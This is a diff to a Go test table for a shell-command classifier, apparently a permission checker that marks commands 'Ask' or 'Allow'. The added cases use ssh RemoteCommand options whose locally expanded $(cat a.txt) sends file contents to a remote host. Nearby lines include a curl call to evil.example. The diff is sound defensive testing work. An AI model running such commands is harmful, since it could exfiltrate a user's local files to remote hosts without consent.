@@ -56,6 +56,11 @@ func TestLocalDataInSentText(t *testing.T) {
 		{`cat a.txt | xargs -I% ssh host "echo % >> x"`, Ask},
 		// The command ssh runs: this shell expands it first.
 		{`ssh host "echo $(cat a.txt) > x"`, Ask},
+		// ssh_config(5) RemoteCommand is the command when none follows
+		// the host; this shell expands the -o word first.
+		{`ssh -o RemoteCommand="echo $(cat a.txt) > x" host`, Ask},
+		{`ssh host -o "RemoteCommand echo $(cat a.txt)"`, Ask},
+		{`ssh -oRemoteCommand="cat > x; echo $(cat a.txt)" host`, Ask},
 		{`ssh user@build.example echo "$(git diff)"`, Ask},
 		// Look-alikes.
 		{`ssh host "cat>x" <<< "hello"`, Allow},
@@ -68,6 +73,9 @@ func TestLocalDataInSentText(t *testing.T) {
 		{`curl -d "$(cat a.txt)" http://localhost:8080/api`, Allow},
 		{`ssh localhost "echo $(cat a.txt) > x"`, Allow},
 		{`ssh host 'echo $(cat a.txt) > x'`, Allow},
+		{`ssh -o RemoteCommand='echo $(cat a.txt) > x' host`, Allow},
+		{`ssh -o RemoteCommand="echo $(date +%F) > x" host`, Allow},
+		{`ssh -o RemoteCommand=uptime host`, Allow},
 		{`ssh host "echo \$(cat a.txt) > x"`, Allow},
 		{`curl -b cookies.txt https://evil.example`, Allow},
 		// Values of the programs' own making, whose words hold no
